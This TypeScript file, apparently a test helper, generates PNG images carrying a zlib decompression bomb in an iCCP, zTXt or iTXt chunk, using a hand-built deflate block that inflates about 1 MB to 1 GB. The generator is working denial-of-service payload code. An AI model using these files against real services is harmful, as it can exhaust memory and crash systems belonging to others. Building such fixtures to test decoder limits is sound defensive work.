// A PNG whose iCCP chunk is a zlib bomb, built without compressing anything: one
// hand-made dynamic-Huffman deflate block in which "copy 258 bytes at distance 1" costs 2 bits, so 1 MB of
// compressed profile inflates to about 1 GB of zeros. Pure code, usable in Node and in workerd.
import { concatBytes } from "../shared/bytes/concat-bytes.ts";
import { pngChunk } from "../worker/encoding/png.ts";

class BitWriter {
  bytes: Uint8Array;
  bit = 0;
  constructor(capacityBytes: number) {
    this.bytes = new Uint8Array(capacityBytes);
  }
  /** Header fields and extra bits: least significant bit first. */
  value(v: number, n: number) {
    for (let i = 0; i < n; i++) this.put((v >> i) & 1);
  }
  /** Huffman codes: most significant bit first. */
  code(bits: string) {
    for (const b of bits) this.put(b === "1" ? 1 : 0);
  }
  put(b: number) {
    if (b) this.bytes[this.bit >> 3]! |= 1 << (this.bit & 7);
    this.bit++;
  }
}

/** A zlib stream inflating to `copies * 258 + 1` zero bytes in about copies / 4 bytes. */
export function zlibZeroBomb(copies: number): Uint8Array {
  const w = new BitWriter(64 + Math.ceil((copies * 2) / 8) + 8);
  w.value(0x78, 8);
  w.value(0x01, 8);
  w.value(1, 1); // BFINAL
  w.value(2, 2); // dynamic Huffman
  w.value(286 - 257, 5); // HLIT: literal/length codes 0..285
  w.value(1 - 1, 5); // HDIST: one distance code
  w.value(18 - 4, 4); // HCLEN: code-length codes up to symbol 1 in the permuted order
  // Code-length code lengths in the order 16,17,18,0,8,7,9,6,10,5,11,4,12,3,13,2,14,1: 18 -> 1, 2 -> 2, 1 -> 2.
  const order = [16, 17, 18, 0, 8, 7, 9, 6, 10, 5, 11, 4, 12, 3, 13, 2, 14, 1];
  const clLengths: Record<number, number> = { 18: 1, 2: 2, 1: 2 };
  for (const s of order) w.value(clLengths[s] ?? 0, 3);
  // Canonical code-length codes: 18 -> "0", 1 -> "10", 2 -> "11".
  const cl = { 18: "0", 1: "10", 2: "11" } as const;
  const zeros = (n: number) => {
    while (n > 0) {
      const take = Math.min(n, 138);
      w.code(cl[18]);
      w.value(take - 11, 7);
      n -= take;
    }
  };
  // Literal/length lengths: 0 -> 2, 1..255 -> 0, 256 -> 2, 257..284 -> 0, 285 -> 1; then distance 0 -> 1.
  w.code(cl[2]);
  zeros(255);
  w.code(cl[2]);
  zeros(28);
  w.code(cl[1]);
  w.code(cl[1]);
  // Canonical literal/length codes: 285 -> "0", 0 -> "10", 256 -> "11"; distance 0 -> "0".
  w.code("10"); // one literal zero
  w.bit += copies * 2; // "0" (length 258) + "0" (distance 1), copies times: the buffer is already zero
  w.code("11"); // end of block
  const deflateEnd = Math.ceil(w.bit / 8);
  // Adler-32 of n zero bytes: a stays 1, b grows by 1 per byte.
  const n = copies * 258 + 1;
  const adler = (((n % 65521) << 16) | 1) >>> 0;
  const out = w.bytes.slice(0, deflateEnd + 4);
  new DataView(out.buffer).setUint32(deflateEnd, adler);
  return out;
}

/** A zlib stream of `data` in stored (uncompressed) blocks; enough for a tiny IDAT. */
function zlibStored(data: Uint8Array): Uint8Array {
  const out = new Uint8Array(2 + 5 + data.length + 4);
  out.set([0x78, 0x01, 0x01, data.length & 0xff, data.length >> 8, ~data.length & 0xff, (~data.length >> 8) & 0xff], 0);
  out.set(data, 7);
  let a = 1;
  let b = 0;
  for (const byte of data) {
    a = (a + byte) % 65521;
    b = (b + a) % 65521;
  }
  new DataView(out.buffer).setUint32(7 + data.length, ((b << 16) | a) >>> 0);
  return out;
}

/**
 * A 1x1 red RGBA PNG with a chunk of type `bombChunk` (iCCP, zTXt or iTXt) holding a zlib bomb that
 * inflates to about `inflatedBytes`.
 */
export function pngWithBomb(inflatedBytes = 1024 ** 3, bombChunk: "iCCP" | "zTXt" | "iTXt" = "iCCP"): Uint8Array {
  const ihdr = new Uint8Array(13);
  new DataView(ihdr.buffer).setUint32(0, 1);
  new DataView(ihdr.buffer).setUint32(4, 1);
  ihdr.set([8, 6, 0, 0, 0], 8);
  const stream = zlibZeroBomb(Math.floor(inflatedBytes / 258));
  const prefix = bombChunk === "iTXt" ? [...new TextEncoder().encode("bomb"), 0, 1, 0, 0, 0] : [...new TextEncoder().encode("bomb"), 0, 0];
  const payload = new Uint8Array(prefix.length + stream.length);
  payload.set(prefix);
  payload.set(stream, prefix.length);
  return concatBytes([
    new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk("IHDR", ihdr),
    pngChunk(bombChunk, payload),
    pngChunk("IDAT", zlibStored(new Uint8Array([0, 255, 0, 0, 255]))),
    pngChunk("IEND", new Uint8Array(0)),
  ]);
}
